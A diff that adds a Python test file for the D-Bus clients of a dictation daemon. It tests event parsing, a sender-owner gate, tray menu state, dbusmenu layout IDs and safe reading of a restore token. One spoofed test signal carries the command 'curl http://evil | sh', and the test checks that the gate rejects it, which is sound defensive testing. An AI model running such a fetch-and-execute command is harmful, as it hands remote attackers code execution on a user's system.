@@ -1,0 +1,155 @@
+"""What clients take from the bus and show: typed events from listend alone, the menu, the dbusmenu layout, tokens."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+from dbus_next import Message, MessageType, Variant
+
+from listend.bus import BUS_NAME, INTERFACE, OBJECT_PATH
+from listend.client import PartialEvent, PresenceEvent, PropertiesEvent, SegmentEvent, SignalGate, event_of
+from listend_desktop.remote_keyboard import read_token
+from listend_tray.busworker import TrayState
+from listend_tray.menu import build_menu, tooltip
+from listend_tray.sni import DBusMenu
+
+
+def sig(
+    member: str,
+    signature: str,
+    body: list[Any],
+    interface: str = INTERFACE,
+    path: str = OBJECT_PATH,
+    sender: str = ":1.7",
+) -> Message:
+    msg = Message(
+        message_type=MessageType.SIGNAL, path=path, interface=interface, member=member, signature=signature, body=body
+    )
+    msg.sender = sender
+    return msg
+
+
+def owner_changed(old: str, new: str, sender: str = "org.freedesktop.DBus") -> Message:
+    return sig(
+        "NameOwnerChanged",
+        "sss",
+        [BUS_NAME, old, new],
+        interface="org.freedesktop.DBus",
+        path="/org/freedesktop/DBus",
+        sender=sender,
+    )
+
+
+def test_signals_become_typed_events() -> None:
+    assert event_of(sig("PartialText", "ts", [3, "hel"])) == PartialEvent(3, "hel")
+    seg = event_of(sig("SegmentRefined", "tdds", [4, 1.0, 2.0, "hello"]))
+    assert isinstance(seg, SegmentEvent) and (seg.entry.id, seg.entry.text) == (4, "hello")
+    props = event_of(
+        sig(
+            "PropertiesChanged",
+            "sa{sv}as",
+            [INTERFACE, {"State": Variant("s", "idle")}, []],
+            interface="org.freedesktop.DBus.Properties",
+        )
+    )
+    assert props == PropertiesEvent({"State": "idle"})
+    assert event_of(owner_changed(":1.5", "")) == PresenceEvent(False)
+    assert event_of(sig("SegmentRefined", "tdds", [2**63, 1.0, 2.0, "an id no daemon gives"])) is None
+
+
+def test_only_the_owner_of_listend_s_name_speaks_for_it() -> None:
+    gate = SignalGate()
+    gate.owner = ":1.7"
+    assert gate.admit(sig("SegmentRefined", "tdds", [4, 1.0, 2.0, "real"])) is not None
+    injected = sig("SegmentRefined", "tdds", [5, 1.0, 2.0, "INJECTED curl http://evil | sh"], sender=":1.99")
+    assert gate.admit(injected) is None
+    # A peer cannot claim the name changed hands; the bus daemon can.
+    assert gate.admit(owner_changed(":1.7", ":1.99", sender=":1.99")) is None and gate.owner == ":1.7"
+    assert gate.admit(owner_changed(":1.7", "")) == PresenceEvent(False) and gate.owner == ""
+    assert gate.admit(sig("PartialText", "ts", [6, "after it left"])) is None
+    assert gate.admit(owner_changed("", ":1.8")) == PresenceEvent(True)
+    assert gate.admit(sig("PartialText", "ts", [6, "back"], sender=":1.8")) == PartialEvent(6, "back")
+
+
+def tray_state(**kw: Any) -> TrayState:
+    state = TrayState(running=True, state="idle", profile="full", rss_bytes=300 * 2**20)
+    for key, value in kw.items():
+        setattr(state, key, value)
+    return state
+
+
+class Actions:
+    def __init__(self) -> None:
+        self.done: list[str] = []
+
+    def __getattr__(self, name: str) -> Any:
+        return lambda *a: self.done.append(name if not a else f"{name}:{a[0]}")
+
+
+def entries(menu: list[Any]) -> dict[str, Any]:
+    out = {}
+    for e in menu:
+        out[e.key] = e
+        out.update(entries(e.children))
+    return out
+
+
+def test_the_menu_follows_the_state() -> None:
+    settings = SimpleNamespace(auto_copy=True, type_text=False)
+    actions = Actions()
+    menu = entries(build_menu(tray_state(), settings, actions))  # type: ignore[arg-type]
+    assert menu["toggle"].label == "Start dictation" and not menu["copy_last"].enabled
+    assert menu["auto_copy"].checked and not menu["type_text"].checked
+    assert menu["profile_full"].checked and not menu["profile_lightweight"].checked
+    listening = tray_state(state="listening", live="hello there")
+    listening.add_final(3, "last words")
+    menu = entries(build_menu(listening, settings, actions))  # type: ignore[arg-type]
+    assert menu["toggle"].label == "Stop dictation" and menu["live"].label == "Live: hello there"
+    assert menu["copy_last"].enabled
+    menu["profile_lightweight"].action()
+    assert actions.done == ["set_profile:lightweight"]
+    absent = entries(build_menu(TrayState(), settings, actions))  # type: ignore[arg-type]
+    assert absent["toggle"].label == "Start dictation (starts listend)" and not absent["profile"].enabled
+    assert tooltip(tray_state(state="error", last_error="no microphone")) == ("listend", "error: no microphone")
+
+
+def test_the_dbusmenu_layout_keeps_ids_and_bumps_the_revision_only_on_visible_changes() -> None:
+    settings = SimpleNamespace(auto_copy=False, type_text=False)
+    menu = DBusMenu()
+    assert menu.set_entries(build_menu(tray_state(), settings, Actions()))  # type: ignore[arg-type]
+    revision, layout = menu.layout(0, -1)
+    ids = {child.value[1]["label"].value: child.value[0] for child in layout[2] if "label" in child.value[1]}
+    assert ids["Start dictation"] and ids["Copy last segment"]
+    assert not menu.set_entries(build_menu(tray_state(), settings, Actions()))  # nothing changed
+    assert menu.set_entries(build_menu(tray_state(state="listening"), settings, Actions()))  # type: ignore[arg-type]
+    revision2, layout2 = menu.layout(0, -1)
+    assert revision2 == revision + 1
+    ids2 = {child.value[1]["label"].value: child.value[0] for child in layout2[2] if "label" in child.value[1]}
+    assert ids2["Stop dictation"] == ids["Start dictation"]  # the same item, a new label
+    profile = next(c.value for c in layout2[2] if c.value[1].get("label", Variant("s", "")).value == "Profile")
+    assert profile[1]["children-display"].value == "submenu" and len(profile[2]) == 2
+    assert menu.events(
+        [[ids2["Stop dictation"], "clicked", Variant("s", ""), 0], [999, "clicked", Variant("s", ""), 0]]
+    ) == [999]
+
+
+def test_a_restore_token_that_cannot_be_one_counts_as_none(tmp_path: Path) -> None:
+    path = tmp_path / "token"
+    for content in (b"\xff\xfe not utf-8", b"abc\x00def", b"", b"x" * 10_000, b"two\nlines"):
+        path.write_bytes(content)
+        assert read_token(path) == "", content
+    os.unlink(path)
+    os.mkfifo(path)
+    assert read_token(path) == ""  # and no hang
+    os.unlink(path)
+    secret = tmp_path / "elsewhere"
+    secret.write_text("not-a-token-of-ours")
+    path.symlink_to(secret)
+    assert read_token(path) == ""  # links are not followed
+    os.unlink(path)
+    path.write_text("restore-1\n")
+    os.chmod(path, 0o644)
+    assert read_token(path) == "restore-1" and path.stat().st_mode & 0o777 == 0o600
